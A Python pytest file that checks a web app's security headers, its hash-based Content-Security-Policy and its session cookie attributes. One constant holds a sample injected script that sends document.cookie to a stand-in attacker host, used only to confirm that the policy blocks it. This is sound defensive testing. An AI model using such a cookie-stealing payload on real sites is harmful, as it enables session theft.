"""Security headers and the session cookie (issue 11, item 9), written as what an attacker counts on.

An injected `<script>` (stored text rendered somewhere by mistake) runs in a page that has no
Content-Security-Policy; a page any site may frame can be clicked through (clickjacking); a session cookie
without `Secure` leaves over plain http. Every answer of the web app now carries the headers, a page's policy
allows only its own inline scripts (by hash), and the cookie is `SameSite=Lax`, `Secure` behind https.

The browser half (the real build under its policy, no violation on the home page, the login and the
dashboard) is `tests/e2e/test_security_headers.py`.
"""

from __future__ import annotations

import base64
import hashlib
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.staticfiles import StaticFiles
from starlette.testclient import TestClient

from leadapp.api.app import api
from leadapp.api.headers import SecurityHeaders, page_policy
from leadapp.core.settings import ROOT
from tests.conftest import clear_app_caches

PAGE_SCRIPT = b'window.__reactRouterContext = {"basename": "/"};'
INJECTED = b"fetch('https://evil.example/?c=' + document.cookie)"
PAGE = (
    b"<!DOCTYPE html><html><head><script>" + PAGE_SCRIPT + b"</script>"
    b'<script type="module" src="/assets/entry.js"></script></head><body><p>Hello</p></body></html>'
)


def sha(script: bytes) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script).digest()).decode() + "'"


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (part.split() for part in policy.split(";") if part.strip())}


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    """The backend as production serves it: the public API and the built pages (static files), wrapped."""
    monkeypatch.setenv("APP_URL", "https://leads.example.test")
    monkeypatch.setenv("TURNSTILE_SITE_KEY", "")
    clear_app_caches()
    (tmp_path / "index.html").write_bytes(PAGE)
    pages = Starlette(routes=[Mount("/", StaticFiles(directory=tmp_path, html=True))])
    backend = Starlette(routes=[Mount("/api", api), Mount("/", pages)])
    with TestClient(SecurityHeaders(backend), base_url="https://leads.example.test") as client:
        yield client
    clear_app_caches()


def test_a_page_runs_only_its_own_scripts(site: TestClient) -> None:
    reply = site.get("/", headers={"Accept": "text/html", "Accept-Encoding": "gzip"})
    assert reply.status_code == 200 and reply.content == PAGE
    policy = directives(reply.headers["Content-Security-Policy"])
    assert policy["script-src"] == ["'self'", sha(PAGE_SCRIPT)]
    assert sha(INJECTED) not in policy["script-src"]
    for loose in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "https:", "http:"):
        assert loose not in policy["script-src"]
    assert policy["default-src"] == ["'self'"] and policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"] and policy["base-uri"] == ["'self'"]
    assert "https://evil.example" not in reply.headers["Content-Security-Policy"]
    assert all(source in ("'self'", "data:", "blob:") for source in policy["img-src"])  # no remote image loads


@pytest.mark.parametrize("path", ["/", "/api/v1/health", "/api/v1/leads", "/no-such-page"])
def test_every_answer_has_the_security_headers(site: TestClient, path: str) -> None:
    reply = site.get(path, headers={"Accept": "text/html"}) if path != "/api/v1/leads" else site.post(path, json={})
    headers = reply.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert "camera=()" in headers["Permissions-Policy"] and "geolocation=()" in headers["Permissions-Policy"]
    assert headers["Strict-Transport-Security"].startswith("max-age=")
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


def test_an_api_answer_allows_nothing_to_run(site: TestClient) -> None:
    policy = directives(site.get("/api/v1/health").headers["Content-Security-Policy"])
    assert policy["default-src"] == ["'none'"]


def test_turnstile_is_the_only_outside_origin_and_only_when_configured(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TURNSTILE_SITE_KEY", "")
    clear_app_caches()
    assert "https://" not in page_policy()
    monkeypatch.setenv("TURNSTILE_SITE_KEY", "0x4AAA")
    clear_app_caches()
    policy = directives(page_policy())
    assert policy["script-src"] == ["'self'", "https://challenges.cloudflare.com"]
    assert policy["frame-src"] == ["https://challenges.cloudflare.com"]
    clear_app_caches()


def test_no_page_hands_a_string_to_eval() -> None:
    """`rx.call_script` runs its code through `eval`, which the policy refuses: no page may use it."""
    sources = "\n".join(path.read_text() for path in (ROOT / "leadapp").rglob("*.py"))
    assert re.search(r"\brx\.call_script\(|\brx\.call_function\(", sources) is None


@pytest.mark.parametrize(
    ("app_url", "secure"), [("https://leads.example.test", True), ("http://localhost:3000", False)]
)
def test_the_session_cookie_is_lax_and_secure_behind_https(app_url: str, secure: bool) -> None:
    # The cookie's attributes are fixed when the app is compiled: read them as a fresh web process would.
    script = (
        "from leadapp.state.auth import AuthState, SESSION_COOKIE\n"
        "cookie = AuthState.get_fields()['session_token'].default\n"
        "print(cookie.name, cookie.same_site, cookie.secure)\n"
    )
    env = {**os.environ, "APP_URL": app_url}
    out = subprocess.run(
        [sys.executable, "-c", script], env=env, capture_output=True, text=True, check=True, timeout=120
    )
    assert out.stdout.split() == ["leadapp_session", "lax", str(secure)], out.stderr
